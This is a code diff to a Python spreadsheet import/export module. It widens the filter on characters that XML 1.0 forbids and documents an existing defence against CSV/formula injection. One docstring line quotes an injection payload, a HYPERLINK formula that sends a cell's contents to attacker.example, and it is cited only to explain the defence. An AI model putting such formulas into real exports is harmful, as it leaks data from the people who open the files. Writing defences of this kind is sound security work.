@@ -5,7 +5,8 @@ so a course named ``=HYPERLINK("http://attacker.example/?x="&A1,"…")`` became 
 admin's Excel. Following OWASP's CSV-injection advice, a string starting with ``=``, ``+``, ``-``,
 ``@``, a tab or a CR is written as a string cell with Excel's quote prefix (the cell shows and
 keeps the exact text, and stays text when a user edits it); no string is ever a formula. Characters
-an .xlsx cannot hold (C0 controls) are dropped instead of failing the export.
+an .xlsx cannot hold (everything XML 1.0 does not allow: C0 controls but tab, LF and CR, lone
+surrogates, U+FFFE and U+FFFF) are dropped, so such text never makes a workbook Excel cannot open.
 
 Reading uploads (``read_upload``): the workbook is parsed in a worker process (never on the event
 loop, nor in a thread that shares its GIL), refused with a 422 when it is not a readable .xlsx, has no sheet, declares a DTD or entities
@@ -21,6 +22,7 @@ import asyncio
 import functools
 import io
 import multiprocessing
+import re
 import zipfile
 from collections.abc import Iterable, Sequence
 from concurrent.futures import ProcessPoolExecutor
@@ -33,7 +35,6 @@ from xml.etree.ElementTree import ParseError
 from defusedxml import DefusedXmlException
 from defusedxml.ElementTree import iterparse
 from openpyxl import Workbook, load_workbook
-from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Font
 
 from jijiao_kit.errors import InvalidInput
@@ -47,6 +48,9 @@ MAX_COLUMNS = 64
 MAX_UNPACKED_BYTES = 64 * 1024 * 1024
 #: Longest a workbook may take to read; the checks above bound it, this bounds what they miss.
 PARSE_SECONDS = 30.0
+#: What XML 1.0 cannot hold (openpyxl's ``ILLEGAL_CHARACTERS_RE`` misses surrogates, U+FFFE, U+FFFF):
+#: written as is, the sheet's XML is not well-formed and the workbook does not open.
+NOT_XML_CHARACTERS = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
 
 
 @dataclass(frozen=True)
@@ -68,7 +72,7 @@ def _plain(value: Any) -> Any:
         return value
     if isinstance(value, date | time):
         return value
-    return ILLEGAL_CHARACTERS_RE.sub("", str(value))
+    return NOT_XML_CHARACTERS.sub("", str(value))
 
 
 def write_row(sheet: Any, values: Sequence[Any], *, bold: bool = False) -> None:
